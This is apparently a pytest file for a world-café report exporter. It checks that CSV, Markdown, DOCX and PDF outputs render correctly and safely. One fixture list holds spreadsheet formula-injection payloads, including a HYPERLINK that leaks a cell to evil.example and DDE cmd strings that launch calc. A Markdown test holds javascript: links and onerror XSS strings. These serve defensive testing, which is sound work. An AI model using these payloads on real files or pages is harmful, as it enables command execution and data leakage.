"""The documents for day three, read back: facts, points, order, plurals, languages and safety."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile

import docx
import pypdf
import pytest
from markdown_it import MarkdownIt

from worldcafe.catalogues import catalogue
from worldcafe.synthesis import Curation, Note, ReportContext, Synthesis, render, synthesize
from worldcafe.synthesis.headings import Words
from worldcafe.synthesis.pdf import MISSING, printable
from worldcafe.synthesis.plenary import theme_points

ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tindented =1+1",
    "\r=1+1 after a carriage return",
]


def _notes() -> list[Note]:
    notes = [
        Note("a1", "Table 1", "Wohnen", "Mehr günstige Wohnungen in der Stadt bauen", 1, "Was?", 1),
        Note("a2", "Table 1", "Wohnen", "Günstige Wohnungen in der Stadt bauen!", 2, "Wie?", 0),
        Note("a3", "Table 1", "Wohnen", "Leerstand besteuern und vermieten", 1, "Was?", 3),
        Note("a4", "Table 1", "Wohnen", "Leerstehende Häuser besteuern", 2, "Wie?", 0),
        Note("b1", "Table 2", "Wohnen", "Build more affordable homes in town", 1, "Was?", 0, "en"),
        Note("b2", "Table 2", "Wohnen", "Affordable homes for young families", 2, "Wie?", 0, "en"),
        Note("c1", "Table 3", "Arbeit", "Vier-Tage-Woche im Rathaus testen", 1, "Arbeit?", 0),
        Note("c2", "Table 3", "Arbeit", "Die Vier-Tage-Woche im Rathaus ausprobieren", 2, None, 2),
    ]
    attacks = [
        Note(f"x{i}", "Table 3", "Arbeit", text, 1, votes=0, author='=HYPERLINK("http://e.x")')
        for i, text in enumerate(ATTACKS, start=1)
    ]
    return notes + attacks


@pytest.fixture(scope="module")
def synthesis() -> Synthesis:
    return synthesize(_notes())


def _context(**changes: object) -> ReportContext:
    context = ReportContext(
        title="Café de la Bâtie",
        language="en",
        date="2026-11-30",
        attendance=[(1, 9), (2, 8)],
        people=10,
        rounds=2,
        questions={"Wohnen": ["Was?", "Wie?"], "Arbeit": ["Arbeit?"]},
        theme_order=["Wohnen", "Arbeit"],
    )
    for name, value in changes.items():
        setattr(context, name, value)
    return context


def _markdown(s: Synthesis, context: ReportContext) -> str:
    return render(s, "md", context).decode("utf-8")


def test_csv_cells_never_start_a_formula(synthesis: Synthesis) -> None:
    text = render(synthesis, "csv", _context()).decode("utf-8")
    rows = list(csv.reader(io.StringIO(text)))
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    by_id = {r[0]: r for r in rows[1:]}
    header = rows[0]
    for index, attack in enumerate(ATTACKS, start=1):
        row = dict(zip(header, by_id[f"x{index}"], strict=True))
        assert row["text"] == "'" + attack
        assert row["author"] == "'" + '=HYPERLINK("http://e.x")'


def test_markdown_has_no_links_or_images(synthesis: Synthesis) -> None:
    hostile = [
        Note("m1", "1", "T", "[click](javascript:alert(1)) now", 1),
        Note("m2", "1", "T", "![pixel](http://track.example/p.gif) seen", 1),
        Note("m3", "1", "T", "<img src=x onerror=alert(1)> and <a href='http://e.x'>x</a>", 1),
        Note(
            "m4", "1", "T", "see http://evil.example/x and www.evil.example or me@evil.example", 1
        ),
        Note("m5", "1", "T", "[ref]: http://evil.example\n\n[ref] # not a heading", 1),
        Note("m6", "1", "T", "1. numbered? - dashed <https://auto.example>", 1),
    ]
    text = _markdown(synthesize(hostile), _context())
    html = MarkdownIt("commonmark").render(text)
    assert "<a " not in html and "<img" not in html
    assert "click" in text and "pixel" in text and "evil.example" in text
    linkify = MarkdownIt("gfm-like") if _has_linkify() else None
    if linkify is not None:
        rendered = linkify.render(text)
        assert "<a " not in rendered and "<img" not in rendered


def _has_linkify() -> bool:
    try:
        import linkify_it  # noqa: F401
    except ImportError:
        return False
    return True


def test_title_page_holds_the_cafes_facts(synthesis: Synthesis) -> None:
    text = _markdown(synthesis, _context())
    title_page = text.split("\n## ", 1)[0]
    for expected in (
        "Café de la Bâtie",
        "Date: 2026-11-30",
        "2 rounds",
        "3 tables",
        "10 participants",
        "Rounds and questions",
        "Was?",
        "Round 2 · 8 participants",
        "Languages of the notes",
        "English",
    ):
        assert expected in title_page, expected
    # Attendance is café-wide: said once, not under every theme's questions.
    questions = title_page.split("Rounds and questions", 1)[1].split("Languages of the notes")[0]
    assert "participant" not in questions


def test_themes_in_the_cafes_order_points_before_the_appendix(synthesis: Synthesis) -> None:
    text = _markdown(synthesis, _context())
    wohnen, arbeit = text.index("\n## Wohnen"), text.index("\n## Arbeit")
    appendix = text.index("Appendix: all notes")
    assert wohnen < arbeit < appendix
    assert text.index("Summary points", wohnen) < arbeit
    assert text.index("Table 1 · Wohnen") > appendix
    reverse = _markdown(synthesis, _context(theme_order=["Arbeit", "Wohnen"]))
    assert reverse.index("\n## Arbeit") < reverse.index("\n## Wohnen")


def test_plurals_and_table_names_read_right(synthesis: Synthesis) -> None:
    text = _markdown(synthesis, _context())
    assert "Table Table" not in text
    assert not re.search(r"\b1 (votes|notes|tables|rounds|participants)\b", text)
    assert re.search(r"\b1 vote\b", text) and "Table 1" in text


@pytest.mark.parametrize(
    ("language", "heading"),
    [
        ("en", "Summary points"),
        ("de", "Die wichtigsten Punkte"),
        ("fr", "Points principaux"),
        ("es", "Puntos principales"),
        ("it", "Punti principali"),
        ("pl", "Najważniejsze punkty"),
    ],
)
def test_headings_in_the_cafes_language(synthesis: Synthesis, language: str, heading: str) -> None:
    text = _markdown(synthesis, _context(language=language, catalogue=catalogue(language)))
    assert heading in text
    words = Words(catalogue(language))
    assert words.table("Table 3") in text
    assert words.ngettext("%(num)s vote", "%(num)s votes", 1) != words.ngettext(
        "%(num)s vote", "%(num)s votes", 5
    )


def test_one_support_figure_everywhere(synthesis: Synthesis) -> None:
    context = _context()
    data = json.loads(render(synthesis, "json", context))
    text = _markdown(synthesis, context)
    for theme in data["themes"]:
        for point in theme["summary"]["points"]:
            notes = [n for n in data["notes"] if n["note_id"] in point["notes"]]
            assert point["support"] == sum(1 + n["votes"] for n in notes)
            assert f"Support {point['support']} · " in text


def test_cross_table_merge_and_key_points_pinned_first(synthesis: Synthesis) -> None:
    before = theme_points(synthesis, "Wohnen")
    holder = {i: p for p in before for i in p.notes}
    assert holder["a3"] is not holder["b1"]
    curation = Curation()
    curation.merge(["a3", "b1"])
    last = before[-1]
    curation.mark_key(last.notes[0])
    curated = synthesize(_notes(), curation)
    context = _context(curation=curation.to_dict()["ops"])
    points = theme_points(curated, "Wohnen", context.curation)
    merged = next(p for p in points if "a3" in p.notes)
    assert "b1" in merged.notes and merged.tables == ("Table 1", "Table 2")
    assert points[0].key and last.notes[0] in points[0].notes
    data = json.loads(render(curated, "json", context))
    wohnen = next(t for t in data["themes"] if t["theme"] == "Wohnen")
    assert wohnen["summary"]["points"][0]["key"] is True
    text = _markdown(curated, context)
    assert f"#### 1\\. {markdown_title(points[0].title)} ★" in text


def markdown_title(title: str) -> str:
    from worldcafe.synthesis.text_exports import markdown_text

    return markdown_text(title)


def test_docx_has_a_table_of_contents_and_survives_control_characters() -> None:
    notes = [Note("n1", "1", "T", "NUL\x00 and vertical\x0btab and \x1b escape", 1)]
    data = render(synthesize(notes), "docx", _context())
    document = docx.Document(io.BytesIO(data))
    text = "\n".join(p.text for p in document.paragraphs)
    assert "NUL and vertical tab and escape" in text
    xml = zipfile.ZipFile(io.BytesIO(data)).read("word/document.xml").decode("utf-8")
    assert 'TOC \\o "1-2"' in xml
    settings = zipfile.ZipFile(io.BytesIO(data)).read("word/settings.xml").decode("utf-8")
    assert "updateFields" in settings


def test_pdf_prints_cjk_arabic_and_emoji_and_marks_what_it_cannot() -> None:
    notes = [
        Note("n1", "1", "T", "更多的树木 日本語のメモ 한국어 메모", 1, language="zh"),
        Note("n2", "1", "T", "مرحبا بالعالم: المزيد من الأشجار في المدينة", 1, language="ar"),
        Note("n3", "1", "T", "Radwege 🚲🌳 bitte \U0001d11e", 1, language="de"),
    ]
    data = render(synthesize(notes), "pdf", _context())
    reader = pypdf.PdfReader(io.BytesIO(data))
    fonts = set()
    for page in reader.pages:
        resources = page["/Resources"]["/Font"]
        fonts.update(str(resources[name].get_object()["/BaseFont"]) for name in resources)
    joined = " ".join(fonts)
    for family in ("DejaVuSans", "DroidSansFallback", "NotoEmoji"):
        assert family in joined
    text = "\n".join(page.extract_text() for page in reader.pages)
    assert "树木" in text and "한국어" in text and "مرحبا بالعالم" in text
    assert printable("a\U0001d11eb") == f"a{MISSING}b"
    assert printable("👍🏽 ok") == "👍🏽 ok"


def test_huge_notes_export_quickly_and_the_pdf_says_what_it_cut() -> None:
    word = "x" * 100_000
    notes = [Note("n1", "1", "T", word, 1), Note("n2", "1", "T", "ab@" * 30_000, 1)]
    s = synthesize(notes)
    assert word in render(s, "md", _context()).decode("utf-8")
    pdf = pypdf.PdfReader(io.BytesIO(render(s, "pdf", _context())))
    text = "\n".join(page.extract_text() for page in pdf.pages)
    assert "[+98500]" in text


def test_points_of_the_plenary_layer_keep_their_dissent_and_follow_curation(
    synthesis: Synthesis,
) -> None:
    from worldcafe.synthesis.plenary import _from_summary, curate_points, point_json

    summary = {
        "points": [
            {"title": "Günstige Wohnungen", "notes": ["a1", "a2", "b1"], "quotes": ["a1", "b1"]},
            {
                "title": "Leerstand",
                "notes": ["a3", "a4", "b2"],
                "quotes": ["a3"],
                "dissent": ["b2"],
            },
        ]
    }
    points = _from_summary(synthesis, summary)
    assert points is not None
    assert [p.support for p in points] == [4, 6]
    assert points[1].dissent == ("b2",) and points[1].tables == ("Table 1", "Table 2")
    data = point_json(points[0], synthesis)
    assert data["cross_table"] is True and data["questions"] == ["Was?", "Wie?"]
    assert point_json(points[1], synthesis)["cross_table"] is True
    ops = [
        {"op": "key", "note_id": "a1", "key": True},
        {"op": "rename", "note_id": "a3", "label": "Leerstand besteuern"},
        {"op": "hide", "note_id": "b2"},
    ]
    curated = curate_points(synthesis, points, ops)
    assert [p.title for p in curated] == ["Günstige Wohnungen", "Leerstand besteuern"]
    assert curated[0].key and curated[1].dissent == ()
    merged = curate_points(synthesis, points, [{"op": "merge", "note_ids": ["a3", "b1"]}])
    assert len(merged) == 1 and merged[0].title == "Leerstand"
    assert merged[0].support == sum(1 + synthesis.notes[i].votes for i in merged[0].notes)


def test_the_side_more_people_took_makes_the_point_and_the_other_is_quoted_once() -> None:
    notes = [
        Note("a1", "T1", "Traffic", "Cars should be banned from the old town", 1, votes=2),
        Note("a2", "T1", "Traffic", "Cars banned from the old town centre", 2),
        Note("a3", "T1", "Traffic", "The old town: cars banned, please", 3),
        # said twice in the same words (a phone that wrote it again in the next round)
        Note("a4", "T1", "Traffic", "Cars should be allowed in the old town", 1),
        Note("a5", "T1", "Traffic", "Cars should be  allowed in the old town", 2),
        Note("b1", "T1", "Traffic", "Plant trees along the river promenade", 1),
        Note("b2", "T1", "Traffic", "More trees and shade by the river", 2),
    ]
    s = synthesize(notes, language="en")
    (point,) = [p for p in s.tables[0].summary.points if "a1" in p.notes]
    assert "banned" in point.title and set(point.dissent) == {"a4", "a5"}
    assert not set(point.quotes) & {"a4", "a5"}
    text = _markdown(s, _context(theme_order=["Traffic"], questions={}))
    points = text.split("### Summary points")[1].split("## Appendix")[0]
    assert len(re.findall(r"“Cars should be\s+allowed in the old town”", points)) == 1
    assert points.count("Opposite view") == 1
